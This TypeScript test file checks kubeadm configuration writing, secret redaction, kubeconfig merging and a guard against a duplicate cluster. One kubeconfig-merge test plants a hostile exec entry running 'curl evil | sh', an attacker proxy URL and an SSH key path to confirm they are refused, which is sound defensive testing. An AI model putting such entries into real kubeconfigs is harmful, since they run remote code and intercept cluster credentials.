import { expect } from 'chai';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { bootstrapTokenId, caCertHash, certificateKeyFrom, kubeadmApiVersion, kubeadmInitConfig, kubeadmInit, kubeadmJoin, kubeadmJoinConfig, redactKubeadmOutput } from '../../tasks/kubeadm.js';
import { Secret } from '../../runner/secret.js';
import { mergeKubeconfig } from '../../tasks/kubeconfig.js';
import { parseNodeReadiness, podsPerNode } from '../../tasks/cluster.js';
import { Pending, type CheckContext } from '../../runner/task.js';
import { parseFacts } from '../../runner/facts.js';

describe('kubeadm: pure parts', () => {
  it('picks the kubeadm config API version from the installed kubeadm (v1beta4 from 1.31)', () => {
    expect(kubeadmApiVersion('v1.34.1')).to.equal('kubeadm.k8s.io/v1beta4');
    expect(kubeadmApiVersion('v1.31.0')).to.equal('kubeadm.k8s.io/v1beta4');
    expect(kubeadmApiVersion('v1.30.9')).to.equal('kubeadm.k8s.io/v1beta3');
    expect(() => kubeadmApiVersion('garbage')).to.throw(/cannot read a version/);
  });

  it('writes the init config exactly (v1beta4: kubelet args as a name/value list)', () => {
    const text = kubeadmInitConfig(
      { podSubnet: '10.10.0.0/16', advertiseAddress: '10.0.0.11', nodeName: 'cp1', controlPlaneEndpoint: 'lb.lab:6443', kubeletExtraArgs: { 'node-ip': '10.0.0.11' } },
      'kubeadm.k8s.io/v1beta4',
    );
    expect(text).to.equal(`# Written by Capstan for kubeadm init.
apiVersion: kubeadm.k8s.io/v1beta4
kind: InitConfiguration
localAPIEndpoint:
  advertiseAddress: 10.0.0.11
  bindPort: 6443
nodeRegistration:
  name: cp1
  kubeletExtraArgs:
    - name: node-ip
      value: 10.0.0.11
---
apiVersion: kubeadm.k8s.io/v1beta4
kind: ClusterConfiguration
controlPlaneEndpoint: lb.lab:6443
networking:
  podSubnet: 10.10.0.0/16
`);
    const v1beta3 = parse(kubeadmInitConfig({ podSubnet: '10.10.0.0/16', advertiseAddress: '10.0.0.11', nodeName: 'cp1', kubeletExtraArgs: { 'node-ip': '10.0.0.11' } }, 'kubeadm.k8s.io/v1beta3').split('---')[0]!);
    expect(v1beta3.nodeRegistration.kubeletExtraArgs).to.deep.equal({ 'node-ip': '10.0.0.11' });
  });

  it('computes the CA hash exactly as the kubeadm docs\' openssl pipeline does', () => {
    const dir = mkdtempSync(join(tmpdir(), 'capstan-ca-'));
    try {
      execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', join(dir, 'ca.key'), '-out', join(dir, 'ca.crt'), '-subj', '/CN=kubernetes', '-days', '1'], { stdio: 'ignore' });
      const expected = execFileSync('sh', ['-c', `openssl x509 -pubkey -in ${join(dir, 'ca.crt')} | openssl rsa -pubin -outform der 2>/dev/null | openssl dgst -sha256 -hex | sed 's/^.* //'`]).toString().trim();
      expect(caCertHash(readFileSync(join(dir, 'ca.crt'), 'utf8'))).to.equal(`sha256:${expected}`);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('hides tokens and certificate keys in kubeadm output but keeps the CA hash', () => {
    const hash = 'sha256:' + 'a'.repeat(64);
    const out = `kubeadm join 10.0.0.1:6443 --token abcdef.0123456789abcdef \\\n\t--discovery-token-ca-cert-hash ${hash} \\\n\t--control-plane --certificate-key ${'b'.repeat(64)}`;
    expect(redactKubeadmOutput(out)).to.equal(`kubeadm join 10.0.0.1:6443 --token *** \\\n\t--discovery-token-ca-cert-hash ${hash} \\\n\t--control-plane --certificate-key ***`);
  });

  it('writes the JoinConfiguration exactly: token and certificate key in the file, not in argv', () => {
    const hash = `sha256:${'ab'.repeat(32)}`;
    const key = 'c'.repeat(64);
    const worker = kubeadmJoinConfig({ endpoint: '10.0.0.11:6443', caCertHash: hash, token: new Secret('abcdef.0123456789abcdef') }, 'kubeadm.k8s.io/v1beta4');
    expect(worker).to.be.instanceOf(Secret);
    expect(String(worker)).to.equal('***');
    expect(worker.reveal()).to.equal(
      '# Written by Capstan for kubeadm join; removed when the join ends.\n' +
        'apiVersion: kubeadm.k8s.io/v1beta4\nkind: JoinConfiguration\ndiscovery:\n  bootstrapToken:\n    apiServerEndpoint: 10.0.0.11:6443\n' +
        `    token: abcdef.0123456789abcdef\n    caCertHashes:\n      - ${hash}\n`,
    );
    const controlPlane = parse(
      kubeadmJoinConfig(
        { endpoint: 'lb:6443', caCertHash: hash, token: new Secret('abcdef.0123456789abcdef'), certificateKey: new Secret(key), advertiseAddress: '10.0.0.12', criSocket: 'unix:///run/containerd/containerd.sock', ignorePreflightErrors: ['NumCPU'] },
        'kubeadm.k8s.io/v1beta3',
      ).reveal(),
    );
    expect(controlPlane).to.deep.equal({
      apiVersion: 'kubeadm.k8s.io/v1beta3',
      kind: 'JoinConfiguration',
      discovery: { bootstrapToken: { apiServerEndpoint: 'lb:6443', token: 'abcdef.0123456789abcdef', caCertHashes: [hash] } },
      nodeRegistration: { criSocket: 'unix:///run/containerd/containerd.sock', ignorePreflightErrors: ['NumCPU'] },
      controlPlane: { localAPIEndpoint: { advertiseAddress: '10.0.0.12' }, certificateKey: key },
    });
  });
  it('deletes a token by its id, the part before the dot', () => {
    expect(bootstrapTokenId(new Secret('abcdef.0123456789abcdef'))).to.equal('abcdef');
    expect(() => bootstrapTokenId(new Secret('error: something\n'))).to.throw(/printed no bootstrap token/);
  });
  it('reads the certificate key from upload-certs output', () => {
    const key = 'c'.repeat(64);
    expect(certificateKeyFrom(`[upload-certs] Storing the certificates in Secret "kubeadm-certs" in the "kube-system" Namespace\n[upload-certs] Using certificate key:\n${key}\n`)).to.equal(key);
    expect(() => certificateKeyFrom('nothing here')).to.throw(/printed no certificate key/);
  });

  it('validates parameters at load: bad CIDR, bad cluster handle', () => {
    expect(() => kubeadmInit({ podSubnet: '10.10.0.0/33' })).to.throw(/podSubnet must be an IPv4 CIDR/);
    expect(() => kubeadmJoin({ cluster: { endpoint: 'x:6443', caCertHash: 'md5:1', controlPlane: 'cp1' } })).to.throw(/value of a kubeadmInit task/);
    expect(() => kubeadmJoin({ cluster: new Pending('init') })).not.to.throw();
  });
});

describe('kubeconfig merge (pure)', () => {
  const admin = `apiVersion: v1
kind: Config
clusters:
  - name: kubernetes
    cluster:
      certificate-authority-data: Q0E=
      server: https://10.0.0.11:6443
users:
  - name: kubernetes-admin
    user:
      client-certificate-data: Q0VSVA==
      client-key-data: S0VZ
contexts:
  - name: kubernetes-admin@kubernetes
    context:
      cluster: kubernetes
      user: kubernetes-admin
current-context: kubernetes-admin@kubernetes
`;
  it('adds a named context and keeps the others', () => {
    const existing = `apiVersion: v1\nkind: Config\nclusters:\n  - name: other\n    cluster:\n      server: https://other:6443\nusers:\n  - name: other-user\n    user:\n      token: t\ncontexts:\n  - name: other\n    context:\n      cluster: other\n      user: other-user\ncurrent-context: other\n`;
    const merged = parse(mergeKubeconfig(existing, admin, 'homelab'));
    expect(merged.contexts.map((c: { name: string }) => c.name)).to.deep.equal(['other', 'homelab']);
    expect(merged.clusters[1]).to.deep.equal({ name: 'homelab', cluster: { 'certificate-authority-data': 'Q0E=', server: 'https://10.0.0.11:6443' } });
    expect(merged.users[1].name).to.equal('homelab-admin');
    expect(merged['current-context']).to.equal('homelab');
  });
  it('refuses an exec plugin, auth provider, file paths or proxy from the control plane, naming the field', () => {
    const planted = admin.replace('      client-key-data: S0VZ\n', '      client-key-data: S0VZ\n      exec:\n        apiVersion: client.authentication.k8s.io/v1\n        command: /bin/sh\n        args: [-c, "curl evil | sh"]\n');
    expect(planted).to.include('exec:');
    expect(() => mergeKubeconfig(null, planted, 'homelab')).to.throw(/admin kubeconfig user "kubernetes-admin" has "exec": Capstan copies only client-certificate-data, client-key-data, token/);
    expect(() => mergeKubeconfig(null, admin.replace('      client-key-data: S0VZ\n', '      client-key-data: S0VZ\n      auth-provider:\n        name: oidc\n'), 'homelab')).to.throw(/"auth-provider"/);
    expect(() => mergeKubeconfig(null, admin.replace('      client-key-data: S0VZ\n', '      client-key: /home/me/.ssh/id_ed25519\n'), 'homelab')).to.throw(/"client-key"/);
    expect(() => mergeKubeconfig(null, admin.replace('      server: https://10.0.0.11:6443\n', '      server: https://10.0.0.11:6443\n      proxy-url: http://attacker:3128\n'), 'homelab')).to.throw(/cluster "kubernetes" has "proxy-url"/);
  });
  it('copies a token user and a server override, nothing else', () => {
    const tokenUser = admin.replace('      client-certificate-data: Q0VSVA==\n      client-key-data: S0VZ\n', '      token: abcdef.0123456789abcdef\n');
    const merged = parse(mergeKubeconfig(null, tokenUser, 'homelab', 'https://cp.example:6443'));
    expect(merged.users).to.deep.equal([{ name: 'homelab-admin', user: { token: 'abcdef.0123456789abcdef' } }]);
    expect(merged.clusters).to.deep.equal([{ name: 'homelab', cluster: { server: 'https://cp.example:6443', 'certificate-authority-data': 'Q0E=' } }]);
  });
  it('is idempotent: merging twice gives the same text', () => {
    const once = mergeKubeconfig(null, admin, 'homelab');
    expect(mergeKubeconfig(once, admin, 'homelab')).to.equal(once);
  });
});

describe('cluster queries (pure)', () => {
  it('parses node readiness and pods per node', () => {
    expect([...parseNodeReadiness('cp1 True\nw1 False\nw2 Unknown\n')]).to.deep.equal([['cp1', true], ['w1', false], ['w2', false]]);
    expect([...podsPerNode('nginx-a w1\nnginx-b w2\nnginx-c w1\n')]).to.deep.equal([['w1', 2], ['w2', 1]]);
  });
});

describe('kubeadm init: never a second cluster behind a running one\'s endpoint', () => {
  /** kubeadmInit's check on a host without admin.conf, curl answering `curl` (exit code and body). */
  const checkWith = async (curl: { code: number; stdout: string }, endpoint: string | null = '192.168.0.66:8888') => {
    const probes: string[] = [];
    const ctx = {
      host: { name: 'node1', vars: { ansible_host: '192.168.0.61' }, facts: parseFacts('') },
      checkMode: true,
      pendingChanges: [],
      stat: async () => null,
      probe: async (command: { display: string }) => {
        probes.push(command.display);
        return { ...curl, stderr: '', bytes: Buffer.from(curl.stdout) };
      },
    } as unknown as CheckContext;
    const task = kubeadmInit({ podSubnet: '10.244.0.0/16', ...(endpoint ? { controlPlaneEndpoint: endpoint } : {}) });
    const drift = await task.bind(ctx.host).check(ctx).then((d) => d, (error: Error) => error.message);
    return { drift, probes };
  };

  it('an API server answering /version at the endpoint: refused, saying why and what to do', async () => {
    const { drift, probes } = await checkWith({ code: 0, stdout: '{\n  "major": "1",\n  "minor": "34",\n  "gitVersion": "v1.34.1"\n}' });
    expect(probes).to.deep.equal(["command -v curl >/dev/null 2>&1 || exit 0; curl -sk --max-time 5 https://192.168.0.66:8888/version"]);
    expect(drift).to.equal(
      'a Kubernetes API server (v1.34.1) already answers at the control-plane endpoint 192.168.0.66:8888, and node1 has no control plane: kubeadm init here would start a second cluster behind it. ' +
        'If node1 was removed from that cluster, put a control plane of the running cluster first in the control_plane group, so node1 joins it',
    );
  });

  it('nothing answering (a new cluster: the VIP or balancer has no backend yet), no curl, or no shared endpoint: init goes on', async () => {
    const notInitialised = [{ subject: 'control plane', current: 'not initialised', desired: 'initialised with kubeadm init' }];
    expect((await checkWith({ code: 28, stdout: '' })).drift).to.deep.equal(notInitialised);
    expect((await checkWith({ code: 0, stdout: '' })).drift).to.deep.equal(notInitialised);
    const alone = await checkWith({ code: 0, stdout: '{"gitVersion":"v1.34.1"}' }, null);
    expect([alone.drift, alone.probes]).to.deep.equal([notInitialised, []]);
  });
});
